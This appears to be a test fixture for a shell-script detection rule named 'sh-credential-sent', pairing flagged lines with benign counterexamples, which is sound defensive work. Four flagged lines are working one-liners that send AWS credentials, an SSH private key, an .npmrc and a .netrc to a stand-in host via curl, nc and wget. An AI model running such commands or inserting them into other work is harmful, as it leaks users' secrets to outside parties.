# ruleid: sh-credential-sent
cat ~/.aws/credentials | curl -s --data-binary @- https://collect.example
# ruleid: sh-credential-sent
base64 "$HOME/.ssh/id_ed25519" | nc collect.example 9000
# ruleid: sh-credential-sent
curl -F "file=@$HOME/.npmrc" https://collect.example
# ruleid: sh-credential-sent
wget --post-file=$HOME/.netrc https://collect.example
# ok: sh-credential-sent
cat ~/.ssh/id_ed25519.pub | curl -d @- https://keys.example
# ok: sh-credential-sent
curl --netrc-file ~/.netrc https://files.example/a
# ok: sh-credential-sent
cat ~/.ssh/config | grep Host
# ok: sh-credential-sent
ssh-keyscan example.org >> ~/.ssh/known_hosts
